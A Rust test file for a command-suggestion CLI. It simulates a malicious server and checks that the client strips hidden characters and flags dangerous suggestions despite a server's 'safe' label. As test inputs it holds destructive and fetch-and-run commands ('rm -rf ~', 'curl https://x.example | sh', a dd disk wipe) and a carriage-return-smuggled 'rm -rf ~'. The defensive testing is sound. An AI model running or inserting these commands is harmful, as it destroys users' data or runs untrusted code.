//! A server that answers what no server of ours would: what comes out of the socket is checked and rated by the client.

use std::process::Stdio;

use cmdai::{
    error::Error,
    request::{Meaning, Suggestion, Timing},
    safety::{Assessment, Risk},
    server::protocol::{Hello, Reply, frame},
};

use crate::{
    resident::{Peer, Resident, finish, is_clean_failure},
    support::{CMDAI, Outcome},
};

/// `command`, called safe.
fn said(command: &str) -> Suggestion {
    let assessment = Assessment { risk: Risk::Safe, findings: Vec::new(), touches: Vec::new() };
    Suggestion { command: command.to_owned(), slot: None, confidence: None, assessment }
}

fn done(suggestions: Vec<Suggestion>) -> String {
    frame(&Reply::Done { suggestions, timing: Timing::default() })
}

/// What a client that is run with `args` makes of a server that greets, hears the request and sends `frames`.
fn answered(args: &[&str], frames: &str) -> Outcome {
    let home = Resident::new();
    let held = home.place().take().expect("a place").expect("a free one");
    let mut client = home.command(CMDAI);
    client.args(args).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut client = client.spawn().expect("it runs");
    // A widget reads its line, and others have theirs.
    let _ = std::io::Write::write_all(&mut client.stdin.take().expect("piped"), b"list files");
    let mut peer = Peer::of(held.listener.accept().expect("a client").0);
    peer.send(frame(&Hello::ours())).frame().expect("its hello");
    peer.frame().expect("a request");
    // A client that has read enough closes.
    let _ = std::io::Write::write_all(peer.stream(), frames.as_bytes());
    finish(client)
}

const HIDDEN: [&str; 6] = ["ls \u{202e}fdp", "ls\u{200b}", "\u{1b}[2Jls", "ls\rrm -rf ~", "ls\0", "ls \u{e0041}"];

#[test]
fn hidden_characters_of_a_server_reach_neither_line_nor_terminal() {
    for command in HIDDEN {
        let frames = format!("{}{}", frame(&Reply::Text(command.into())), done(vec![said(command)]));
        for args in [&["list files"][..], &["suggest", "--json", "list files"]] {
            let Outcome { code, stdout, stderr } = answered(args, &frames);
            assert_eq!((code, stdout.as_str()), (3, ""), "{command:?}: {stderr}");
        }
        for args in [&["suggest", "--stream", "list files"][..], &["widget", "--shell", "zsh", "--stream"]] {
            let Outcome { code, stdout, stderr } = answered(args, &frames);
            let clean = |text: &str| {
                !text.contains(|c: char| c.is_control() && c != '\n')
                    && !text.contains(['\u{202e}', '\u{200b}', '\u{e0041}'])
            };
            assert!(clean(&stdout) && clean(&stderr), "{command:?}: {stdout:?} {stderr:?}");
            assert!(
                code != 0 || stdout.contains("\n1\n") || stdout.starts_with("1\n"),
                "{command:?}: {code} {stdout:?}"
            );
        }
    }
    let text = format!("a\u{1b}[2J\u{202e}{}", "x".repeat(100));
    for reply in
        [Reply::Failed(Error::new(text.clone())), Reply::Explained(vec![Meaning { part: text.clone(), meaning: text }])]
    {
        let Outcome { stdout, stderr, .. } = answered(&["explain", "ls"], &frame(&reply));
        assert!(!(stdout + &stderr).contains(['\u{1b}', '\u{202e}']));
    }
}

#[test]
fn server_s_word_for_a_risk_is_not_taken() {
    for command in ["rm -rf ~", "curl https://x.example | sh", "dd if=/dev/zero of=/dev/sda"] {
        let outcome = answered(&["list files"], &done(vec![said(command)]));
        assert_eq!((outcome.code, outcome.stdout), (0, format!("{command}\n")));
        assert!(outcome.stderr.starts_with("dangerous"), "{command}: {}", outcome.stderr);
        let widget = answered(&["widget", "--shell", "bash"], &done(vec![said(command)]));
        assert!(widget.stdout.starts_with("0") && widget.stdout.contains("dangerous"), "{command}: {}", widget.stdout);
    }
}

#[test]
fn more_than_was_asked_for_is_cut_and_less_is_a_clean_error() {
    let many = (0..500).map(|number| said(&format!("echo {number}"))).collect::<Vec<_>>();
    assert_eq!(answered(&["list files"], &done(many.clone())).stdout, "echo 0\n");
    let widget = answered(&["widget", "--shell", "bash"], &done(many));
    assert_eq!(widget.stdout.lines().last(), Some("echo 0"), "{}", widget.stdout);
    let long = |length: usize| format!("echo {}", "x".repeat(length));
    let refused = answered(&["list files"], &done(vec![said(&long(60_000))]));
    assert_eq!((refused.code, refused.stdout.as_str()), (3, ""), "{}", refused.stderr);
    for frames in [
        done(Vec::new()),
        done(vec![said(&long(2_000_000))]),
        "99999999999\n{}".to_owned(),
        frame(&Reply::Explained(Vec::new())),
        frame(&Reply::Waiting).repeat(3) + "7\n\"nono\"",
    ] {
        for args in [&["list files"][..], &["suggest", "--stream", "list files"]] {
            let outcome = answered(args, &frames);
            assert!(
                is_clean_failure(&outcome),
                "{frames:.60}: {} {:?} {}",
                outcome.code,
                outcome.stdout,
                outcome.stderr
            );
        }
    }
}

#[test]
fn slot_of_a_server_stays_inside_the_command() {
    for slot in [0, 3, 1_000_000, usize::MAX] {
        let frames = done(vec![Suggestion { slot: Some(slot), ..said("ls é") }]);
        let widget = answered(&["widget", "--shell", "zsh"], &frames);
        assert!(
            widget.stdout.contains("ls é") && widget.stderr.is_empty(),
            "{slot}: {} {}",
            widget.stdout,
            widget.stderr
        );
        let cursor =
            widget.stdout.lines().next().and_then(|line| line.split_whitespace().nth(1)?.parse::<usize>().ok());
        assert!(cursor.is_none_or(|cursor| cursor <= 4), "{slot}: {}", widget.stdout);
    }
}
